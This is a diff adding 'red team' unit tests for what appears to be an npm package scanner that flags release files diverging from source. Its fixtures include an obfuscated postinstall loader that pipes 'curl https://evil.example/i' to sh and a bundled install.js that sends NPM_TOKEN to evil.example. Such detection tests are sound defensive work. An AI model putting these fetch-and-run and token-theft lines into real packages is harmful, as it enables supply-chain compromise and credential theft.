@@ -392,4 +392,75 @@ class NpmInstallerViewScanTest {
             }
         }
     }
+
+    // ---- red team, round 2 ------------------------------------------------------------------------------------
+
+    @Test
+    void aDependencySpecNpmReadsAsADirectoryFileOrTagIsANewDependencyNotARangeChange() throws Exception {
+        SortedMap<String, byte[]> tree = tagged("4.0.0", "");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
+            List<String> specs = List.of(".x", "next", "1.3.0.tgz", "~/pad", "latest");
+            for (int i = 0; i < specs.size(); i++) {
+                String v = "4.0." + (i + 1);
+                npm.publish(v, with(tree, "package.json", manifest(v, "").replace("^1.3.0", specs.get(i)),
+                        ".x/package.json", "{\"name\": \"left-pad\", \"version\": \"9.9.9\"}\n",
+                        ".x/index.js", "module.exports = s => s;\n"));
+            }
+            npm.publish("4.0.9", with(tree, "package.json", manifest("4.0.9", "").replace("^1.3.0", ">=1.3.0 <2.0.0-0")));
+            for (int i = 0; i < specs.size(); i++) {
+                ReleaseReport r = scan(npm, "4.0." + (i + 1));
+                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), specs.get(i));
+                assertTrue(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY), specs.get(i));
+                assertEquals(Verdict.HIGH_RISK, r.verdict(), specs.get(i));
+            }
+            FileDivergence range = row(scan(npm, "4.0.9").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, range.ruleId());
+            assertFalse(range.highRisk());
+        }
+    }
+
+    @Test
+    void bundledDependenciesAndBuildOutputTheInstallerRunsAreNeverExplainedByTheirName() throws Exception {
+        // node_modules/ and dist/ are ignored by Git and named by "files": build output by name, but npm runs them
+        String extra = ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist\", \"node_modules\"],"
+                + "\n  \"bundleDependencies\": [\"left-pad\"],\n  \"scripts\": {\"postinstall\": \"node dist/setup.js\"}";
+        SortedMap<String, byte[]> tree = tagged("5.0.0", extra, ".gitignore", "node_modules/\ndist/\n");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
+            npm.publish("5.0.1", with(tree, "package.json", manifest("5.0.1", extra),
+                    "dist/setup.js", "const m = module.constructor._load(['child','process'].join('_'));\n"
+                            + "m['exec' + 'Sync']('curl -s https://evil.example/i | sh');\n",
+                    "node_modules/left-pad/package.json", "{\"name\": \"left-pad\", \"version\": \"1.3.0\","
+                            + " \"scripts\": {\"postinstall\": \"node install.js\"}}\n",
+                    "node_modules/left-pad/install.js", "require('https').get('https://evil.example/' + process.env.NPM_TOKEN);\n"));
+            ReleaseReport r = scan(npm, "5.0.1");
+            ArtifactReport a = r.artifacts().get(0);
+            for (String p : List.of("package/dist/setup.js", "package/node_modules/left-pad/package.json",
+                    "package/node_modules/left-pad/install.js")) {
+                assertFalse(row(a, p).status() == FileStatus.BUILD_OUTPUT, p);
+            }
+            assertTrue(row(a, "package/dist/setup.js").highRisk());
+            assertTrue(row(a, "package/node_modules/left-pad/package.json").highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void anAppleDoubleFileCarryingAPayloadIsNotJunk() throws Exception {
+        SortedMap<String, byte[]> tree = tagged("6.0.0", "");
+        String payload = "module.exports = '" + java.util.Base64.getEncoder().encodeToString(new byte[900]) + "';\n";
+        byte[] fork = payload.getBytes(StandardCharsets.UTF_8);
+        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(26 + 12 + fork.length);
+        b.putInt(0x00051607).putInt(0x00020000).put("Mac OS X        ".getBytes(StandardCharsets.US_ASCII))
+                .putShort((short) 1).putInt(2).putInt(38).putInt(fork.length).put(fork);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
+            SortedMap<String, byte[]> shipped = with(tree, "package.json", manifest("6.0.1", ""));
+            shipped.put("._index.js", b.array());
+            npm.publish("6.0.1", shipped);
+            FileDivergence f = row(scan(npm, "6.0.1").artifacts().get(0), "package/._index.js");
+            assertEquals(Classifier.UNEXPLAINED, f.ruleId());
+            assertTrue(f.riskFlags().contains(RiskFlag.ENCODED_BLOB));
+            assertTrue(f.highRisk());
+        }
+    }
 }
